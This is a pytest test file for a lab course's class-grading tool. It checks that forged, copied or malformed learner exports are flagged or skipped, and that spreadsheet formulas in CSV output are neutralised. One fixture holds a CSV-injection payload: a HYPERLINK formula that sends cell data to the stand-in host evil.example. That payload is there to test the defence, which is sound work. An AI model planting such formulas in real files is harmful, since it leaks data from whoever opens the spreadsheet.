"""Class grading trusts nothing a file says to decide whose row it is: learners are identified by the learner id
inside the export (older exports by their file name, with a note), conflicts and duplicated evidence are
flagged instead of settled, spreadsheet formulas are neutralised, and files that are not plain exports are
skipped with a message -- none of them stops the class."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from checks.inventory import to_builtins
from lab import grading
from lab.safety import describe_size
from tests.unit.test_class_grading import export, inventory, rows
from tests.unit.test_grading import s3_lab

ALICE_ID, BOB_ID, MALLORY_ID = "a1" * 16, "b2" * 16, "c3" * 16
SCORE = "02-s3-crr score"


def write(directory: Path, name: str, body: dict) -> Path:
    path = directory / name
    path.write_text(json.dumps(body))
    return path


def flags_of(table: list[dict[str, str]], file: str) -> str:
    return next(row["flags"] for row in table if row["file"] == file)


def test_a_file_with_another_learners_name_and_a_future_date_does_not_replace_their_row(tmp_path: Path) -> None:
    # Older exports (no learner id): identified by file name, so mallory.json cannot take alice.json's row.
    write(tmp_path, "alice.json", export("alice", inventory(2), exported_at="2026-03-01T10:00:00Z"))
    write(tmp_path, "mallory.json", export("alice", inventory(0), exported_at="2099-01-01T00:00:00Z"))
    grades = grading.grade_class(tmp_path, [s3_lab()])
    table = rows(grades.to_csv())
    assert [(row["learner"], row["file"], row[SCORE]) for row in table] == [
        ("alice", "alice.json", "5"), ("alice", "mallory.json", "0")]
    assert "the same name as another learner: 'alice' in mallory.json" in flags_of(table, "alice.json")
    assert "the same name as another learner: 'alice' in alice.json" in flags_of(table, "mallory.json")


def test_a_file_claiming_another_learners_id_is_a_conflict_on_both_rows(tmp_path: Path) -> None:
    write(tmp_path, "alice.json", export("alice", inventory(2), learner_id=ALICE_ID))
    write(tmp_path, "zz-forged.json", export("alice", inventory(0), exported_at="2099-01-01T00:00:00Z",
                                             learner_id=ALICE_ID))
    write(tmp_path, "renamed.json", export("Mallory", inventory(1), learner_id=ALICE_ID))
    table = rows(grading.grade_class(tmp_path, [s3_lab()]).to_csv())
    assert sorted((row["file"], row[SCORE]) for row in table) == [
        ("alice.json", "5"), ("renamed.json", "1"), ("zz-forged.json", "0")]
    alice = flags_of(table, "alice.json")
    assert (f"conflict: learner id {ALICE_ID} is also claimed, with different evidence, by 'Mallory' in "
            "renamed.json, 'alice' in zz-forged.json; each file has its own row, none was chosen") in alice
    assert f"conflict: learner id {ALICE_ID} is also claimed under another name by" in alice
    assert "'alice' in alice.json" in flags_of(table, "renamed.json")


def test_a_copied_export_under_another_name_is_flagged_as_duplicated_evidence(tmp_path: Path) -> None:
    original = export("alice", inventory(2), learner_id=ALICE_ID)
    write(tmp_path, "alice.json", original)
    copied = json.loads(json.dumps(original))
    copied["metadata"].update(learner="bob", learner_id=BOB_ID)
    copied["inventory"] = dict(reversed(list(copied["inventory"].items())))  # re-saved in another key order
    (tmp_path / "bob.json").write_text(json.dumps(copied, indent=1))
    legacy = json.loads(json.dumps(original))
    legacy["metadata"] = {"learner": "carol"}  # and once more as an older export
    write(tmp_path, "carol.json", legacy)
    write(tmp_path, "dan.json", export("dan", inventory(1), learner_id=MALLORY_ID))
    grades = grading.grade_class(tmp_path, [s3_lab()], workers=2)  # the parallel path settles the same way
    table = rows(grades.to_csv())
    assert [row["learner"] for row in table] == ["alice", "bob", "carol", "dan"]
    digest = grading.evidence_digest(original["inventory"])
    assert [row["evidence_sha256"] for row in table][:3] == [digest] * 3
    assert flags_of(table, "alice.json") == ("duplicated evidence: the same inventory as 'bob' in bob.json, "
                                             "'carol' in carol.json")
    assert "duplicated evidence: the same inventory as 'alice' in alice.json, 'carol' in carol.json" \
        in flags_of(table, "bob.json")
    assert flags_of(table, "dan.json") == ""


def test_an_identical_copy_of_one_learners_export_counts_once(tmp_path: Path) -> None:
    body = export("alice", inventory(2), learner_id=ALICE_ID)
    write(tmp_path, "alice.json", body)
    write(tmp_path, "alice-copy.json", body)
    grades = grading.grade_class(tmp_path, [s3_lab()])
    [row] = rows(grades.to_csv())
    assert (row["file"], row["flags"]) == ("alice-copy.json", "")
    assert grades.notes == ["alice.json: an identical copy of alice-copy.json (learner 'alice', the same evidence); "
                            "graded once"]


def test_a_copy_that_only_spells_the_name_otherwise_counts_once(tmp_path: Path) -> None:
    write(tmp_path, "a.json", export("alice", inventory(2), learner_id=ALICE_ID))
    write(tmp_path, "b.json", export(" Alice ", inventory(2), learner_id=ALICE_ID))
    grades = grading.grade_class(tmp_path, [s3_lab()])
    assert [(row["file"], row["flags"]) for row in grades.rows] == [("a.json", [])]
    assert grades.notes == ["b.json: an identical copy of a.json (learner 'Alice', the same evidence); graded once"]


def test_names_that_read_the_same_are_the_same_name(tmp_path: Path) -> None:
    write(tmp_path, "a.json", export("Alice  Smith", inventory(2), learner_id=ALICE_ID))
    write(tmp_path, "b.json", export("ａｌｉｃｅ smith", inventory(1), learner_id=BOB_ID))  # full-width letters
    table = rows(grading.grade_class(tmp_path, [s3_lab()]).to_csv())
    assert all("the same name as another learner" in row["flags"] for row in table)


def test_older_exports_are_graded_by_file_name_with_a_note_that_says_so(tmp_path: Path) -> None:
    write(tmp_path, "alice.json", export("alice", inventory(2)))
    write(tmp_path, "bob.json", export("bob", inventory(1), learner_id=BOB_ID))
    grades = grading.grade_class(tmp_path, [s3_lab()])
    table = rows(grades.to_csv())
    assert [(row["learner"], row["learner_id"], row[SCORE]) for row in table] == [("alice", "", "5"),
                                                                                  ("bob", BOB_ID, "1")]
    assert flags_of(table, "alice.json") == "no learner id (an export of an older lab): identified by its file name"
    assert grades.notes == ["alice.json: no learner id inside (written by an older `lab export`), so learner 'alice' "
                            "is identified by the file name; an export from this lab carries one"]
    assert grades.learners == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path, start: str) -> None:
    formula = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    body = export(formula, inventory(2), exported_at=f"{start}1+1")
    write(tmp_path, "=cmd.json", body)
    text = grading.grade_class(tmp_path, [s3_lab()]).to_csv()
    [row] = rows(text)
    assert row["learner"] == grading.spreadsheet_safe(formula.strip())  # names are read stripped
    assert row["exported_at"] == f"'{start}1+1"
    assert row["file"] == "'=cmd.json" and row["flags"].startswith("no learner id")
    for line in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(grading.FORMULA_STARTS) for cell in line), line


def test_a_malformed_inventory_skips_its_own_file_not_the_class(tmp_path: Path) -> None:
    write(tmp_path, "alice.json", export("alice", inventory(2), learner_id=ALICE_ID))
    write(tmp_path, "broken.json", export("bob", {**to_builtins(inventory(2)), "drills": "not a list"},
                                          learner_id=BOB_ID))
    grades = grading.grade_class(tmp_path, [s3_lab()])
    assert [row["file"] for row in grades.rows] == ["alice.json"]
    [problem] = grades.problems
    # the typed schema refuses it as it is read, naming the member
    assert problem.startswith(f"{tmp_path / 'broken.json'}: not an inventory of schema 2.0") and "$.drills" in problem


@pytest.mark.parametrize("learner_id", ["", "short", "=1+2" * 8, 12345678901234567890, "a" * 65])
def test_a_learner_id_that_is_not_one_skips_the_file(tmp_path: Path, learner_id: object) -> None:
    body = export("alice", inventory(2))
    body["metadata"]["learner_id"] = learner_id
    write(tmp_path, "alice.json", body)
    grades = grading.grade_class(tmp_path, [s3_lab()])
    assert grades.rows == [] and "metadata.learner_id" in grades.problems[0]


def test_an_export_above_the_size_limit_is_skipped_unread(tmp_path: Path) -> None:
    path = write(tmp_path, "alice.json", export("alice", inventory(2), learner_id=ALICE_ID))
    size = path.stat().st_size
    grades = grading.grade_class(tmp_path, [s3_lab()], max_bytes=2048)
    assert grades.rows == []
    assert grades.problems == [f"{path}: larger than 2 KiB ({describe_size(size)}); skipped unread "
                               "(lab grade --max-export-mb raises the limit)"]
    assert [row["file"] for row in grading.grade_class(tmp_path, [s3_lab()]).rows] == ["alice.json"]


GRADE_BOUNDED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))
from pathlib import Path
from lab import grading
from lab.safety import describe_size
from tests.unit.test_grading import s3_lab
grades = grading.grade_class(Path(sys.argv[1]), [s3_lab()], workers=int(sys.argv[2]))
print("ROWS", [row["file"] for row in grades.rows])
for problem in grades.problems:
    print("SKIPPED", problem)
"""


@pytest.mark.parametrize("workers", [1, 2])
def test_fifos_devices_and_folders_are_skipped_with_a_message(tmp_path: Path, workers: int) -> None:
    # Run bounded: a FIFO used to hang the class, /dev/zero to read until memory ran out.
    write(tmp_path, "alice.json", export("alice", inventory(2), learner_id=ALICE_ID))
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    (tmp_path / "folder.json").mkdir()
    (tmp_path / "dangling.json").symlink_to(tmp_path / "nowhere")
    result = subprocess.run([sys.executable, "-c", GRADE_BOUNDED, str(tmp_path), str(workers)], check=False,
                            capture_output=True, text=True, timeout=120, cwd=Path(__file__).parents[2])
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "ROWS ['alice.json']"
    skipped = sorted(lines[1:])
    assert skipped == sorted([
        f"SKIPPED {tmp_path / 'dangling.json'}: cannot be read (No such file or directory)",
        f"SKIPPED {tmp_path / 'folder.json'}: not a regular file (a directory); an export is a plain file",
        f"SKIPPED {tmp_path / 'pipe.json'}: not a regular file (a FIFO); an export is a plain file",
        f"SKIPPED {tmp_path / 'zero.json'}: not a regular file (a character device); an export is a plain file"])


def test_lab_grade_class_prints_what_it_flagged_skipped_and_noted(tmp_path: Path) -> None:
    from lab.cli import main

    exports = tmp_path / "class"
    exports.mkdir()
    write(exports, "alice.json", export("alice", inventory(2), learner_id=ALICE_ID))
    write(exports, "forged.json", export("alice", inventory(0), learner_id=ALICE_ID))
    write(exports, "old.json", export("=old", inventory(1)))
    os.mkfifo(exports / "pipe.json")
    result = CliRunner().invoke(main, ["grade", "02-s3-crr", "--class", str(exports), "--csv",
                                       str(tmp_path / "grades.csv")])
    assert result.exit_code == 0, result.output
    output = result.output
    assert f"flagged: alice.json (learner 'alice'): conflict: learner id {ALICE_ID}" in output
    assert "flagged: forged.json (learner 'alice'): conflict" in output
    assert "note: old.json: no learner id inside" in output
    assert "skipped: " in output and "pipe.json: not a regular file (a FIFO)" in output
    assert "graded 3 export(s) of 2 learner(s) on 1 lab(s): " in output
    assert "; 1 file(s) skipped; 3 row(s) flagged (see the flags column)" in output
    table = list(csv.DictReader((tmp_path / "grades.csv").open()))
    assert [row["learner"] for row in table] == ["'=old", "alice", "alice"]
